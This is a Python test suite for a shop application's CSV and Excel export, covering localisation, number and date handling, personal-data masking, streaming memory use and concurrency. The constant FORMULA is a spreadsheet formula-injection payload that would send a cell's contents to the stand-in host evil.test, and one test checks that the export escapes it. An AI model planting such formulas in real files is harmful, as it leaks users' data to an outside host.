"""A list as a file: the same rows as its pages, safe to open, in the reader's language and by the reader's right."""

import asyncio
import csv
import io
import tempfile
from collections.abc import AsyncIterator
from dataclasses import replace
from datetime import datetime
from pathlib import Path
from time import monotonic
from typing import Any

import httpx
import openpyxl
import psycopg
import pytest
from shared.kit.tests.eventually import eventually
from shared.kit.tests.http.shop import LISTING, Shop, filters, open_shop

from jejak_kit.http.exports import AT_ONCE, ROWS_HEADER, export_router
from jejak_kit.i18n import Catalogue
from jejak_kit.privacy import email, external

pytestmark = pytest.mark.anyio

MANY, ENOUGH = 100_000, 20_000
"""Rows; the second is more than sockets hold."""
IN_WIB = (datetime.fromisoformat("2026-01-31"), datetime.fromisoformat("2026-02-01T06:30"))
FORMULA = '=HYPERLINK("http://evil.test?"&A1;"klik")'


@pytest.fixture
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture
async def shop(database: str, tmp_path: Path, issuer: Any) -> AsyncIterator[Shop]:
    async with open_shop(database, tmp_path, issuer) as shop:
        yield shop


def one(shop: Shop, **ware: Any) -> None:
    known = {"id": "w-1", "name": "Piring", "price": 1_500_000, "weight": None, "packed": None, "sold": None}
    row = {**known, "fragile": None, "owner": None, **ware}
    shop.fill("VALUES (%s, %s, %s, %s, %s, %s, %s, %s)", *row.values())


def table(answer: httpx.Response, separator: str = ";") -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"), newline=""), delimiter=separator))


def sheet(answer: httpx.Response) -> Any:
    assert answer.status_code == 200, answer.text
    return openpyxl.load_workbook(io.BytesIO(answer.content)).active


async def test_headings_dates_and_numbers_are_the_readers(shop: Shop) -> None:
    one(shop, weight="1.25", packed="2026-01-31", sold="2026-01-31T23:30:00Z", fragile=True)
    indonesian = await shop.export()
    assert table(indonesian) == [
        ["Nama Barang", "Harga (Rp)", "Berat", "Dikemas", "Terjual (WIB)", "Mudah Pecah", "Pemilik"],
        ["Piring", "1500000", "1,25", "2026-01-31", "2026-02-01 06:30:00", "ya", ""],
    ]
    english = await shop.export(language="en")
    assert table(english, ",")[0][:2] == ["Ware", "Price (Rp)"]
    assert table(english, ",")[1][2:6] == ["1.25", "2026-01-31", "2026-02-01 06:30:00", "yes"]
    assert table(await shop.export(separator="comma"), ",")[1][:2] == ["Piring", "1500000"]
    assert indonesian.headers["content-type"] == "text/csv; charset=utf-8"
    assert indonesian.headers["content-disposition"].startswith('attachment; filename="wares-20')
    assert indonesian.headers[ROWS_HEADER] == "1"


async def test_a_workbook_keeps_numbers_and_instants_as_such(shop: Shop) -> None:
    one(shop, price=-5, weight="1.25", packed="2026-01-31", sold="2026-01-31T23:30:00Z", fragile=False)
    one(shop, id="w-2", name="Zat", price=10**17, packed="1899-12-31")
    heading, first, second = [[cell.value for cell in row] for row in sheet(await shop.export(format="xlsx")).rows]
    assert heading[:2] == ["Nama Barang", "Harga (Rp)"]
    assert first == ["Piring", -5, 1.25, *IN_WIB, "tidak", None]
    assert second[:4] == ["Zat", str(10**17), None, "1899-12-31"], "what Excel would round or cannot hold stays as text"


async def test_a_workbook_rounds_no_sum_of_money_however_the_database_keeps_it(shop: Shop) -> None:
    sums = (
        "123456789012345",
        "1234567890123456",
        "-9999999999999999.25",
        "12345678901234.5",
        "1.50",
        "1e17",
        "0",
        "NaN",
    )
    for place, weight in enumerate(sums):
        one(shop, id=f"w-{place}", name=f"{place}", weight=weight)
    cells = sheet(await shop.export(format="xlsx"))["C"][1:]
    assert [cell.value for cell in cells] == [
        123456789012345,
        "1234567890123456",
        "-9999999999999999.25",
        12345678901234.5,
        1.5,
        str(10**17),
        0,
        "NaN",
    ]
    assert {cell.number_format for cell in cells if isinstance(cell.value, int)} == {"#,##0"}, (
        "no mark behind a whole number"
    )


async def test_no_text_is_calculated(shop: Shop) -> None:
    one(shop, name=FORMULA, price=-5)
    assert table(await shop.export())[1][:2] == ["'" + FORMULA, "-5"], "a number is no text"
    found = sheet(await shop.export(format="xlsx"))
    assert (found["A2"].data_type, found["A2"].value, found["B2"].value) == ("s", FORMULA, -5)
    assert found["A2"].quotePrefix, "and stays a text when somebody edits it"


async def test_filters_and_order_are_those_of_the_list(shop: Shop) -> None:
    shop.fill("SELECT 'w' || n, 'Gelas ' || n, n FROM generate_series(1, 9) n")
    shop.fill("VALUES ('x', NULL, NULL)")
    rows = table(await shop.export(sort="-price", cheaper_than=4))[1:]
    assert [row[0] for row in rows] == ["Gelas 3", "Gelas 2", "Gelas 1"]
    assert [row[0] for row in table(await shop.export(q="7"))[1:]] == ["Gelas 7"]
    assert table(await shop.export())[-1][0] == "", "empty values stand last"
    for wrong in ({"sort": "owner"}, {"format": "pdf"}, {"separator": "tab"}, {"cursor": "x"}, {"limit": 5}):
        assert (await shop.export(**wrong)).status_code == 422, wrong


async def test_people_are_shown_by_the_readers_right(shop: Shop) -> None:
    sealer = shop.runtime.sealer
    siti, budi = await sealer.subject_of(email("siti@a.test")), await sealer.subject_of(external("7", system="crm"))
    for place, (who, name) in enumerate(((siti, "=Siti"), (budi, "Budi"))):
        sealed = await sealer.seal(who, "contact", name)
        one(shop, id=f"w-{place}", name=f"{place}", owner=sealed.model_dump_json())
    with psycopg.connect(shop.database) as connection:
        connection.execute("DELETE FROM person_keys WHERE subject = %s", (budi,))
    sealer.keyring._cache._entries.clear()
    assert [row[6] for row in table(await shop.export("keeper"))[1:]] == ["'=Siti", "(dihapus)"]
    hidden = await shop.export("packer", format="xlsx")
    assert [cell.value for cell in sheet(hidden)["G"][1:]] == ["(disembunyikan)"] * 2
    stranger = await shop.export("guest")
    assert (stranger.status_code, stranger.json()["code"]) == (404, "not_found")
    assert (await shop.client.get("/v1/wares/export")).status_code == 401


async def test_it_is_one_state_of_the_list_however_long_it_takes(shop: Shop) -> None:
    shop.fill("SELECT 'w' || n, repeat('x', 2000) || n, n FROM generate_series(1, 20000) n")
    async with shop.client.stream("GET", "/v1/wares/export", headers=shop.bearer()) as answer:
        chunks = answer.aiter_bytes(100_000)
        body = await anext(chunks)
        with psycopg.connect(shop.database) as connection:
            connection.execute("DELETE FROM view_wares_v1.wares")
        body += b"".join([chunk async for chunk in chunks])
    assert body.count(b"\r\n") == 20_001
    assert len(table(await shop.export())) == 1


async def test_a_list_that_is_just_being_switched_is_exported_as_it_is_after_the_switch(shop: Shop) -> None:
    shop.fill("VALUES ('old', 'Lama', 1)")
    async with await psycopg.AsyncConnection.connect(shop.database) as switch:
        await switch.execute("CREATE SCHEMA next")
        await switch.execute("CREATE TABLE next.wares (LIKE view_wares_v1.wares INCLUDING ALL)")
        await switch.commit()
        await switch.execute("INSERT INTO next.wares (id, name) VALUES ('new', 'Baru')")
        await switch.execute("DROP SCHEMA view_wares_v1 CASCADE")
        await switch.execute("ALTER SCHEMA next RENAME TO view_wares_v1")
        export = asyncio.create_task(shop.export())

        async def waits() -> bool:
            with psycopg.connect(shop.database) as connection:
                found = connection.execute("SELECT 1 FROM pg_locks WHERE NOT granted").fetchone()
            return found is not None

        await eventually(waits)
        await switch.commit()
    assert [row[0] for row in table(await export)[1:]] == ["Baru"]


async def test_a_hundred_thousand_rows_pass_through_a_small_memory(shop: Shop) -> None:
    shop.fill(f"SELECT 'w' || n, repeat(md5(n::text), 15), n FROM generate_series(1, {MANY}) n")
    before, most, rows, size = _resident(), 0, -1, 0
    started, first = monotonic(), 0.0
    async with shop.client.stream("GET", "/v1/wares/export", headers=shop.bearer()) as answer:
        async for chunk in answer.aiter_raw():
            first = first or monotonic() - started
            rows, size, most = rows + chunk.count(b"\r\n"), size + len(chunk), max(most, _resident())
    took = monotonic() - started
    print(
        f"{rows:,} rows, {size / 1e6:.0f} MB in {took:.1f} s, first byte after {first:.2f} s, "
        f"{(most - before) / 1e6:.0f} MB more memory"
    )
    assert rows == MANY == int(answer.headers[ROWS_HEADER])
    assert size > 45e6
    assert most - before < size / 3
    assert first < took / 3


async def test_a_large_workbook_passes_through_a_small_memory(shop: Shop) -> None:
    shop.fill(f"SELECT 'w' || n, repeat(md5(n::text), 8), n FROM generate_series(1, {MANY}) n")
    before, most, file, started = _resident(), 0, io.BytesIO(), monotonic()
    async with shop.client.stream("GET", "/v1/wares/export?format=xlsx", headers=shop.bearer(), timeout=170) as answer:
        async for chunk in answer.aiter_raw():
            most = max(most, _resident())
            file.write(chunk)
    grown = most - before - file.tell()
    print(
        f"{MANY:,} rows, {file.tell() / 1e6:.0f} MB in {monotonic() - started:.1f} s, {grown / 1e6:.0f} MB more memory"
    )
    assert grown < 60e6
    found = openpyxl.load_workbook(file, read_only=True).active
    assert sum(1 for _ in found.rows) == MANY + 1


async def test_a_reader_who_leaves_frees_the_snapshot(shop: Shop) -> None:
    shop.fill(f"SELECT 'w' || n, repeat('x', 1000), n FROM generate_series(1, {ENOUGH}) n")
    async with shop.client.stream("GET", "/v1/wares/export", headers=shop.bearer()) as answer:
        await anext(answer.aiter_raw())
        assert _snapshots(shop) == 1

    async def freed() -> bool:
        return _snapshots(shop) == 0

    await eventually(freed)


async def test_a_workbook_that_is_being_sent_holds_no_snapshot_and_is_in_no_folder(
    shop: Shop, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    text = "(SELECT string_agg(md5(n || '-' || m), '') FROM generate_series(1, 30) m)"
    shop.fill(f"SELECT 'w' || n, {text}, n FROM generate_series(1, {ENOUGH}) n")
    async with shop.client.stream("GET", "/v1/wares/export?format=xlsx", headers=shop.bearer(), timeout=60) as answer:
        await anext(answer.aiter_raw())
        assert _snapshots(shop) == 0
        assert _files(tmp_path) == []


async def test_when_the_database_breaks_off_the_file_does_not_end_well(shop: Shop) -> None:
    shop.fill(f"SELECT 'w' || n, repeat('x', 1000), n FROM generate_series(1, {ENOUGH}) n")
    async with shop.client.stream("GET", "/v1/wares/export", headers=shop.bearer()) as answer:
        chunks = answer.aiter_raw()
        await anext(chunks)
        with psycopg.connect(shop.database) as connection:
            connection.execute(f"SELECT pg_terminate_backend(pid) {_HOLDING}".encode())
        with pytest.raises(httpx.RemoteProtocolError):
            [chunk async for chunk in chunks]
    assert table(await shop.export(cheaper_than=2))[1][1] == "1", "and the next one works again"


async def test_too_many_at_once_are_asked_to_come_again(shop: Shop) -> None:
    shop.fill(f"SELECT 'w' || n, repeat('x', 1000), n FROM generate_series(1, {ENOUGH}) n")
    requests = [shop.client.build_request("GET", "/v1/wares/export", headers=shop.bearer()) for _ in range(AT_ONCE)]
    open_answers = [await shop.client.send(request, stream=True) for request in requests]
    refused = await shop.export()
    assert (refused.status_code, refused.json()["code"]) == (503, "exports_busy")
    assert refused.headers["Retry-After"] == "15"
    for answer in open_answers:
        await answer.aclose()

    async def again() -> bool:
        return (await shop.export(cheaper_than=2)).status_code == 200

    await eventually(again)


async def test_a_list_too_long_for_a_sheet_is_refused_before_it_begins(
    shop: Shop, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("jejak_kit.http.exports.MOST_ROWS", 2)
    shop.fill("SELECT 'w' || n, 'Gelas', n FROM generate_series(1, 3) n")
    answer = await shop.export(format="xlsx", language="en")
    assert (answer.status_code, answer.json()["code"]) == (422, "too_many_rows")
    assert (await shop.export(format="csv")).status_code == 200
    assert _snapshots(shop) == 0


async def test_a_list_without_headings_in_both_languages_is_not_offered(shop: Shop) -> None:
    catalogue = shop.runtime.catalogue
    name, price = LISTING.columns[:2]
    assert LISTING.heading(name, catalogue) == "column.wares.name", "its own text comes first"
    assert LISTING.heading(price, catalogue) == "column.price"
    lacking = Catalogue({"id": catalogue.texts["id"], "en": {}})
    with pytest.raises(LookupError, match=r"column\.price.*wares"):
        LISTING.heading(price, lacking)
    with pytest.raises(LookupError):
        export_router(replace(shop.runtime, catalogue=lacking), LISTING, filters)


_HOLDING = "FROM pg_stat_activity WHERE datname = current_database() AND state LIKE 'idle in transaction%'"


def _snapshots(shop: Shop) -> int:
    with psycopg.connect(shop.database) as connection:
        row = connection.execute(f"SELECT count(*) {_HOLDING}".encode()).fetchone()
    assert row is not None
    return int(row[0])


def _files(folder: Path) -> list[Path]:
    return [path for path in folder.rglob("*") if path.is_file()]


def _resident() -> int:
    """Bytes of this process, which is the server's too, that are in memory now."""
    return int(Path("/proc/self/statm").read_text().split()[1]) * 4096
